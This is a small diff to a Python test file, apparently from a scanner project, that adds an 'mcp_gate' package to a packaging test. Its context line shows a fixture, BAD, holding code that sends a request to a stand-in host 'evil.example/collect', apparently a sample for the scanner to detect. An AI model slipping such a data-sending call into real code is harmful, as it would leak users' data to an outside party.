@@ -26,7 +26,7 @@ BAD = 'import requests\nrequests.get("https://evil.example/collect")\n'
 def test_every_package_is_listed() -> None:
     folders = {path.parent.relative_to(ROOT) for path in (ROOT / "gk_hooks").rglob("*.py")}
     found = {".".join(folder.parts) for folder in folders if folder.parts[1:2] != ("aliases",)}
-    assert SETUP["options"]["packages"].split() == [*sorted(found), "mcen_scan"]
+    assert SETUP["options"]["packages"].split() == [*sorted(found), "mcen_scan", "mcp_gate"]
 
 
 def test_only_two_dependencies() -> None:
